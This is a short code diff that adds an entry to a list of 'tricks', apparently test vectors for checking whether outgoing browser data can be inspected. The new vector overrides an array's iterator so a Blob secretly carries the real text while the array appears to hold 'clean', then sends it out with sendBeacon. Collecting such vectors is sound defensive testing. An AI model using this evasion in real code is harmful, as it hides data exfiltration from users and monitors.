@@ -92,6 +92,18 @@ export const TRICKS: readonly Vector[] = [
     },
   },
   {
+    name: "blob-of-another-list",
+    run: (text, url) => {
+      const parts = ["clean"];
+      Object.defineProperty(parts, Symbol.iterator, {
+        *value() {
+          yield text;
+        },
+      });
+      navigator.sendBeacon(url, new Blob(parts));
+    },
+  },
+  {
     name: "view-that-lies",
     run: (text, url) => {
       const bytes = new TextEncoder().encode(text);
